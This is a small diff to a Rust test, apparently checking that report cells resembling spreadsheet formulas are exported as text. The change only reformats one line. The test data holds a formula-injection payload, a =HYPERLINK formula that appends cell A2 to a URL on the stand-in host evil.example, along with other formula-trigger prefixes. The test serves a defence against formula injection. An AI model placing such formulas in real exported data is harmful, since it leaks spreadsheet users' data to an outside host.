@@ -493,7 +493,10 @@ fn report_cells_that_look_like_formulas_are_text() {
         standards: Vec::new(),
     };
     let rows = [
-        row("=HYPERLINK(\"http://evil.example/?\"&A2,\"Klik\")", "@SUM(A1)"),
+        row(
+            "=HYPERLINK(\"http://evil.example/?\"&A2,\"Klik\")",
+            "@SUM(A1)",
+        ),
         row("+1-2", "-3"),
         row("\tTab", "Bagian Umum"),
     ];
